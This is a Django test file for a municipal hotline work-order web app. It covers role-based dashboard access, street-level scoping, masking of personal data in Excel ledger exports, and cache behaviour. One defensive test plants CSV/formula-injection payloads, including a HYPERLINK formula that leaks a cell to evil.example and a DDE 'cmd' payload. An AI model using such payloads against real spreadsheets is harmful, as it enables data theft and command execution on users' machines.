import io

from django.urls import reverse
from openpyxl import load_workbook

from web.ledger import HEADER_ROW
from web.tests.conftest import export_url
from workorders.services import work_order_assign


def test_dashboard_shows_the_rates_with_their_parts(login, assigned):
    response = login("supervisor").get(reverse("web:dashboard"))
    assert response.status_code == 200
    body = response.content.decode()
    for word in ("响应率", "解决率", "满意率", "按时办结率", "单位排名", "网格地图", "易反复问题"):
        assert word in body
    assert "<svg" in body and "甲一1号网格" in body


def test_figures_click_through_to_the_orders_behind_them(login, assigned):
    client = login("supervisor")
    body = client.get(reverse("web:orders"), {"figure": "volume"}).content.decode()
    assert assigned.number in body
    body = client.get(reverse("web:orders"), {"figure": "overdue"}).content.decode()
    assert assigned.number not in body


def test_street_supervisor_cannot_choose_another_street(login, district, assigned):
    client = login("supervisor_a")
    assert client.get(reverse("web:dashboard"), {"unit": district.street_a.pk}).status_code == 200
    assert client.get(reverse("web:dashboard"), {"unit": district.street_b.pk}).status_code == 404
    assert client.get(reverse("web:orders"), {"unit": district.street_b.pk}).status_code == 404


def test_dashboard_is_404_for_operators_and_handlers(login):
    assert login("operator").get(reverse("web:dashboard")).status_code == 404
    assert login("handler_a").get(reverse("web:dashboard")).status_code == 404


def test_ledger_export_masks_personal_data(login, district, log_call):
    work_order_assign(order=log_call(), actor=district.user("dispatcher"), unit=district.street_a)
    log_call(caller_phone="13700001234", caller_name="王五", caller_confidential=True)
    response = login("supervisor").post(export_url({"figure": "volume"}))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(min_row=HEADER_ROW, values_only=True))
    assert rows[0][0] == "工单号" and len(rows) == 3
    flat = " ".join(str(c) for row in rows for c in row)
    assert "138****5678" in flat and "张*" in flat
    assert "13812345678" not in flat and "13700001234" not in flat and "王五" not in flat and "（保密）" in flat


def test_supervisor_urges_from_the_list(login, assigned):
    client = login("supervisor")
    # Each row's urge form posts to that order's urge action, its labels in the page's
    # language (translated once for the list, not once a row).
    page = client.get(reverse("web:orders")).content.decode()
    assert f'action="{reverse("web:order_act", args=[assigned.number, "urge"])}"' in page
    assert "<summary>督办</summary>" in page and ">发送督办</button>" in page
    english = client.get(reverse("web:orders"), HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "发送督办" not in english and "督办将短信通知承办单位" not in english
    response = client.post(
        reverse("web:order_act", args=[assigned.number, "urge"]),
        {"expected_version": assigned.version, "note": "请加快办理。", "next": reverse("web:orders")},
    )
    assert response.status_code == 302
    assert assigned.events.filter(kind="urge").count() == 1


def test_home_sends_each_role_to_its_page(login):
    for user, name in [
        ("operator", "web:ops"),
        ("dispatcher", "web:desk"),
        ("supervisor", "web:dashboard"),
        ("handler_a", "web:workbench"),
    ]:
        response = login(user).get(reverse("home"))
        assert response.status_code == 302 and response.url == reverse(name)


def test_ledger_cells_that_look_like_formulas_stay_text(login, district, log_call):
    planted = {
        "title": '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
        "address": "+1+cmd|' /C calc'!A0",
        "description": "-2+3",
        "caller_name": "@SUM(A1:A9)",
    }
    log_call(title=planted["title"], address=planted["address"], description=planted["description"])
    log_call(caller_name=planted["caller_name"])
    response = login("supervisor").post(export_url({"figure": "volume"}))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=1) for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert "'" + planted["title"] in values and "'" + planted["address"] in values
    assert "'-2+3" in values  # the request text is exported, guarded like the rest; so is the masked name:
    assert any(isinstance(v, str) and v.startswith("'@") for v in values)
    dangerous = tuple("=+-@\t\r")
    assert not [v for v in values if isinstance(v, str) and v.startswith(dangerous)]


def test_tabs_and_returns_at_the_start_are_escaped_too():
    from web.ledger import cell_text

    assert [cell_text(v) for v in ("\tx", "\r=1", "ok", "a=b", 3, None)] == ["'\tx", "'\r=1", "ok", "a=b", 3, None]


def test_a_cached_dashboard_counts_no_orders_or_callbacks_again(login, settings, log_call):
    """As deployed (board cached), a second view of the same scope reads neither orders nor
    events: category rates, sub-units and the community block are cached with the board
    (issue 14: they were most of a cached dashboard's time at a million orders)."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    settings.HOTLINE_DASHBOARD_CACHE_SECONDS = 120
    log_call()
    client = login("supervisor")
    for params in ({}, {"unit": str(client_unit("S-A"))}):
        assert client.get(reverse("web:dashboard"), params).status_code == 200
        with CaptureQueriesContext(connection) as ctx:
            assert client.get(reverse("web:dashboard"), params).status_code == 200
        again = [
            q["sql"]
            for q in ctx.captured_queries
            if "workorders_event" in q["sql"] or "workorders_workorder" in q["sql"]
        ]
        assert again == [], again


def client_unit(code: str) -> int:
    from grids.models import OrgUnit

    return OrgUnit.objects.get(code=code).pk
